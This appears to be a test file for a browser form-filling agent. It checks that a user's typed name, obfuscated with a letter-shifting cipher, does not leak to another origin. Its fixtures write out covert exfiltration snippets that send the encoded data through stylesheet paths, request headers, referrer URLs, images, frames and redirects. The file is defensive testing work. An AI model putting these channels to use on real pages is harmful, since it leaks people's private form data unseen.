import { describe, expect, it } from 'vitest';
import { fewOf } from '#tests/setup/few-of.ts';
import { apply } from '../apply-harness.ts';
import { onSites } from './on-sites.ts';
import { asPage, QUESTIONS } from './serve-site.ts';

const { browser, sites } = await onSites();

/** Letters moved on by 13: no search for values finds them. `Ada Byron` becomes `Nqn Olena`. */
const CIPHER = `const turn = (text) => text.replace(/[a-z]/gi, (c) => String.fromCharCode((c <= 'Z' ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26)).replace(/[^a-z0-9]/gi, '');`;
const FORM = `<form id="f" action="/receive" method="post">${QUESTIONS}<button>Submit application</button></form>`;
/** What runs at each answer; `data` is what was typed, in cipher, and `to` the origin that it should reach. */
const asForm = (to: string, way: string, head = '') =>
  asPage(
    `${FORM}<script>${CIPHER} const to = '${to}'; f.onchange = () => { const data = turn(f.full_name.value); if (data) { ${way} } };</script>`,
    head,
  );
const cipherSeen = () =>
  sites.arrived.filter(
    ({ site, path, body, headers }) => site === 'other' && /nqn|olena/i.test(`${path} ${body} ${headers}`),
  );

describe('what no search for values could find', () => {
  it.each(
    fewOf(
      Object.entries({
        'the name of a folder': `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = to + '/' + data + '/x.css'; document.head.append(l)`,
        'a header of what was asked before': `fetch(to + '/before.css', { cache: 'no-store', headers: { accept: 'text/x-' + data } }).catch(() => 0)`,
        'the address that a picture was asked from': `history.replaceState({}, '', '/?' + data); const i = new Image(); i.referrerPolicy = 'unsafe-url'; i.src = to + '/before.gif?again'`,
        'the address that a part was asked from': `history.replaceState({}, '', '/?' + data); const l = document.createElement('link'); l.rel = 'stylesheet'; l.referrerPolicy = 'unsafe-url'; l.href = to + '/later.css'; document.head.append(l)`,
      }),
    ),
  )('goes to no other site in %s', async (_what, way) => {
    sites.page('other /before.gif', (_request, response) =>
      response.setHeader('cache-control', 'no-store').end(),
    );
    const url = sites.page(
      '/cipher',
      asForm(
        sites.other,
        way,
        `<link rel="stylesheet" href="${sites.other}/before.css"><script>new Image().src = '${sites.other}/before.gif?again'</script>`,
      ),
    );
    await apply(browser.host, { url, hooks: { review: async () => ({ decision: 'stop' }) } });
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(cipherSeen()).toEqual([]);
  });

  it.each(
    fewOf(
      Object.entries({
        'an address that is asked for': `fetch('/look/' + data)`,
        'a post': `fetch('/look', { method: 'POST', body: data })`,
        'a picture': `new Image().src = '/' + data + '.gif'`,
        'an address that it goes to': `location.href = '/on/' + data`,
        'a frame': `const i = document.createElement('iframe'); i.src = '/in/' + data; document.body.append(i)`,
      }),
    ),
  )('goes to no site that a posting led on to, in %s', async (_what, way) => {
    const form = sites.page('other /form', asForm(sites.other, way));
    const url = sites.page('/leads-on', (_request, response) =>
      response.writeHead(302, { location: form }).end(),
    );
    await apply(browser.host, { url, hooks: { review: async () => ({ decision: 'stop' }) } }).catch(
      () => undefined,
    );
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(cipherSeen()).toEqual([]);
  });

  it('is asked for at "Next" where a posting led on to another site, and its further steps go on', async () => {
    const steps = `<p>Step <b id="n">1</b> of 3</p><form id="f"><div id="one">${QUESTIONS}<button type="button" id="next">Next</button></div></form><script>
      let at = 1;
      const on = async () => {
        await fetch('/api/steps/' + at, { method: 'POST', body: JSON.stringify([...f.elements].map((one) => one.value)) });
        at += 1; n.textContent = at;
        one.innerHTML = at === 2 ? '<label>City <input name="city" required></label><button type="button" id="next">Next</button>' : '<label>Phone <input name="phone" type="tel" required></label><button type="button" id="go">Submit application</button>';
        if (at === 2) next.onclick = on; else go.onclick = async () => { await fetch('/receive', { method: 'POST', body: f.phone.value }); document.body.innerHTML = '<h1>Thank you for applying</h1>'; };
      };
      next.onclick = on;</script>`;
    const form = sites.page('other /steps', asPage(steps));
    const url = sites.page('/leads-to-steps', (_request, response) =>
      response.writeHead(302, { location: form }).end(),
    );
    const { report, reviews } = await apply(browser.host, { url });
    expect(report.submitted).toBe('confirmed');
    expect(reviews[0]?.origins).toContain(sites.other);
    expect(sites.arrived.filter(({ path }) => path === '/receive')).toHaveLength(1);
    expect(sites.arrived.filter(({ path }) => path === '/api/steps/1')).toHaveLength(1);
  });
});
